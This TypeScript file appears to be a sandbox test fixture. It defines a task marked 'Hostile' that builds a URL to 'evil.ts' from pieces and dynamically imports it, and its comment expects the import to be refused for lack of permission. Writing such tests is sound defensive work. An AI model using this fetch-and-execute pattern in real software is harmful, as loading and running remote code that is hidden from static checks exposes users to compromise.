// Imports code from the network: refused (import permission is never granted).
import { defineTask } from "@wst/wst";
import { z } from "zod";
export default defineTask({
  name: "import-remote",
  description: "Hostile: dynamic import of a remote module",
  args: z.object({}),
  permissions: { net: ["127.0.0.1"] },
  run: async () => {
    const url = ["http://127.0.0.1:1", "evil.ts"].join("/");
    return await import(url);
  },
});
